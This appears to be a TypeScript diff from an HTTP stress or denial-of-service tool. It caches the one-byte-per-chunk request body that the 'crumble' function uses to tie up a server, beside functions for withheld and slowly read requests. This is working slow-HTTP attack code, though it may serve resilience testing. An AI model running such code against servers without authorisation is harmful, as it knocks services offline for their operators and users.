@@ -144,15 +144,24 @@ async function withhold(attacking: Attacking): Promise<void> {
 /** A request whose body comes in chunks of one byte each. */
 async function crumble(attacking: Attacking): Promise<void> {
   const { head, body } = wireFormOf(attacking);
-  const count = Math.min(body.length, attacking.crumbs);
-  const crumbs = Buffer.from("1\r\nx\r\n".repeat(count));
-  for (let index = 0; index < count; index++) crumbs[6 * index + 3] = body.charCodeAt(index);
+  const crumbs = crumbsOf(body.slice(0, attacking.crumbs));
   await onSocket(attacking, (socket) => {
     socket.write(head.replace(/Content-Length: \d+/, "Transfer-Encoding: chunked"));
     socket.write(crumbs);
     socket.write("0\r\n\r\n");
     socket.on("data", () => socket.destroy());
   });
+}
+
+let crumbled = { body: "", crumbs: Buffer.alloc(0) };
+
+/** Kept for the next time, or making them would take the processor that the server needs. */
+function crumbsOf(body: string): Buffer {
+  if (crumbled.body === body) return crumbled.crumbs;
+  const crumbs = Buffer.from("1\r\nx\r\n".repeat(body.length));
+  for (let index = 0; index < body.length; index++) crumbs[6 * index + 3] = body.charCodeAt(index);
+  crumbled = { body, crumbs };
+  return crumbs;
 }
 
 /** A request whose answer is read, but a little at a time. */
